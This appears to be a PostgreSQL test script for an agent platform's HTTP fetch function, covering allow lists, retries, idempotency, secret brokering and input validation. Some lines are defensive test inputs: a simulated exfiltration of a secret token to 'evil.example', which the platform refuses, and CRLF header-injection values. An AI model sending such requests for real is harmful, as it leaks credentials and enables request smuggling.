\getenv abs_srcdir PG_ABS_SRCDIR
\set include :abs_srcdir '/sql/include/try.psql'
\i :include
\set include :abs_srcdir '/sql/include/worker.psql'
\i :include
SELECT platform AS p, live AS k FROM tst.platform('Fetches') \gset
SELECT id AS s FROM theazo.session_create('user-1', api_key => :'k') \gset

-- a request needs no sandbox: it is due at once
BEGIN;
SELECT theazo.authenticate(:'k');
SELECT id AS a FROM theazo.agent_create(:'s', '{"network": {"enabled": true, "allow": ["API.example", "*.x.example:8443"]}}') \gset
SELECT id AS r, kind, status, provider, timeout_ms FROM theazo.http_fetch_start(:'a', 'https://api.example/p?key=x#y', 'post', '{"X-A": "1"}', 'hello', '5 s') \gset
SELECT :'kind', :'status', :'provider', :timeout_ms;
SELECT kind, state, due_at <= now(), max_attempts FROM theazo_data.effect WHERE run_id = :'r';
SELECT input FROM theazo_data.run_payload WHERE root_id = substr(:'r', 5);
SELECT tst.claim();
SELECT kind, endpoint, needs_secrets, timeout_ms, sandbox_id FROM tst.claimed WHERE adapter = 'http';
SELECT tst.settle('http.request', 'done', '{"status": 201, "headers": {"a": "b"}, "body": "made", "truncated": false}');
SELECT status, http_status, response_headers, response_body, truncated, stdout, cost FROM theazo.run_result(:'r');
SELECT action, category, summary - 'durationMs' FROM theazo.events WHERE run_id = :'r' ORDER BY occurred_at, action;
SELECT level, source, regexp_replace(message, '[0-9]+ ms', 'N ms'), metadata - 'durationMs' FROM theazo.logs WHERE run_id = :'r';
SELECT name, status FROM theazo.spans WHERE trace_id = 'tr_' || substr(:'r', 5) ORDER BY name;
SELECT count(*) FROM theazo_data.charge WHERE run_id = :'r';
SELECT status FROM theazo.agents WHERE id = :'a';
SELECT * FROM theazo.integrity_check() WHERE platform_id = :'p';

-- a GET may be repeated when nobody knows what became of it, anything else may not
SELECT id AS g FROM theazo.http_fetch_start(:'a', 'https://api.example/') \gset
SELECT id AS d FROM theazo.http_fetch_start(:'a', 'https://api.example/', 'DELETE') \gset
SELECT tst.claim();
SELECT tst.settle('http.get', 'unknown', '{"message": "gone"}'), tst.settle('http.request', 'unknown', '{"message": "gone"}');
SELECT run_id = :'g' AS is_get, kind, state, attempt FROM theazo_data.effect WHERE run_id IN (:'g', :'d') ORDER BY kind;
SELECT status, error_sqlstate, outcome_unknown FROM theazo.run_result(:'d');
SELECT status FROM theazo.run_cancel(:'g');
SELECT status, error_code FROM theazo.run_result(:'g');

-- refused before it left: an event that says so
SELECT id AS x FROM theazo.http_fetch_start(:'a', 'https://evil.example/', headers => '{"Authorization": "Bearer tzsecret_KEY"}') \gset
SELECT tst.claim();
SELECT tst.settle('http.get', 'failed', '{"code": "forbidden", "sqlstate": "TZ304", "message": "secret \"key\" must not be sent to \"evil.example\""}');
SELECT action, decision, is_violation, summary - 'durationMs' FROM theazo.events WHERE run_id = :'x' ORDER BY occurred_at, action;
SELECT level, regexp_replace(message, '[0-9]+ ms', 'N ms') FROM theazo.logs WHERE run_id = :'x';

-- the same key, the same run
SELECT id AS i FROM theazo.http_fetch_start(:'a', 'https://api.example/1', idempotency_key => 'once') \gset
SELECT id = :'i' FROM theazo.http_fetch_start(:'a', 'https://api.example/1', idempotency_key => 'once');
SELECT tst.try(format($$SELECT theazo.http_fetch_start(%L, 'https://api.example/2', idempotency_key => 'once')$$, :'a'));

-- secrets: only when the headers name one that is brokered
SELECT name FROM theazo.secret_set('key', 'a value', session => :'s', hosts => '{api.example}');
SELECT name FROM theazo.secret_set('other', 'a value', session => :'s', hosts => '{api.example}');
SELECT name FROM theazo.secret_set('env.one', 'a value', session => :'s', delivery => 'env');
SELECT id AS n FROM theazo.http_fetch_start(:'a', 'https://api.example/n', headers => '{"A": "tzsecret_KEY tzsecret_ENV_ONE"}', body => NULL) \gset
SELECT id AS o FROM theazo.http_fetch_start(:'a', 'https://api.example/o', 'POST', '{"A": "Basic dTp0enNlY3JldF9PVEhFUg=="}', 'tzsecret_KEY') \gset
SELECT tst.claim();
SELECT c.run_id = :'n' AS first, c.needs_secrets, s.use, s.env_name, s.name, s.hosts, s.sealed IS NOT NULL AS sealed, s.host
  FROM tst.claimed c CROSS JOIN LATERAL theazo_internal.effect_secrets(c.platform_id, c.root_id, c.id) s
 WHERE c.run_id IN (:'n', :'o') ORDER BY 1, 2;
ROLLBACK;

-- what is no request
BEGIN;
SELECT theazo.authenticate(:'k');
SELECT id AS a FROM theazo.agent_create(:'s') \gset
SELECT tst.try(format('SELECT theazo.http_fetch_start(%L, %L)', :'a', u))
  FROM unnest(ARRAY[NULL, '', 'x', 'ftp://h/', 'https://', 'https:///p', 'https://u:p@h/', E'https://h\\@g/', 'https://h /', E'https://h/\n',
	'https://' || repeat('x', 8000), 'https://ä.example/']) u;
SELECT tst.try(format('SELECT theazo.http_fetch_start(%L, %L, %L, %L::jsonb, %L)', :'a', 'https://h/', m, h, b))
  FROM (VALUES ('TRACE', NULL, NULL), (E'GET\r\nX', NULL, NULL), ('GET', NULL, 'body'), ('HEAD', NULL, 'body'), ('POST', NULL, repeat('x', 1048577)),
	('GET', '[]', NULL), ('GET', '{"A": 1}', NULL), ('GET', '{"A": null}', NULL), ('GET', '{"A b": "1"}', NULL), ('GET', '{"": "1"}', NULL),
	('GET', '{"A": "x\r\n y"}', NULL), ('GET', '{"A": "1", "a": "2"}', NULL), ('GET', '{"hOST": "x"}', NULL), ('GET', '{"Content-Length": "1"}', NULL),
	('GET', '{"Proxy-Anything": "1"}', NULL), ('GET', '{"Accept-Encoding": "br"}', NULL),
	('GET', jsonb_build_object('A', repeat('x', 8193))::text, NULL),
	('GET', (SELECT jsonb_object_agg('A' || i, 'x')::text FROM generate_series(1, 41) i), NULL),
	('GET', (SELECT jsonb_object_agg('A' || i, repeat('x', 8000))::text FROM generate_series(1, 5) i), NULL)) AS v (m, h, b);
SELECT tst.try(format($$SELECT theazo.http_fetch_start(%L, 'https://h/', timeout => '0 s')$$, :'a'));
SELECT tst.try(format($$SELECT theazo.http_fetch_start(%L, 'https://h/', idempotency_key => '')$$, :'a'));
SELECT tst.try($$SELECT theazo.http_fetch_start('agt_00000000000000000000000000', 'https://h/')$$);
SELECT tst.boot();
SELECT status FROM theazo.agent_pause(:'a');
SELECT tst.try(format($$SELECT theazo.http_fetch_start(%L, 'https://h/')$$, :'a'));
ROLLBACK;
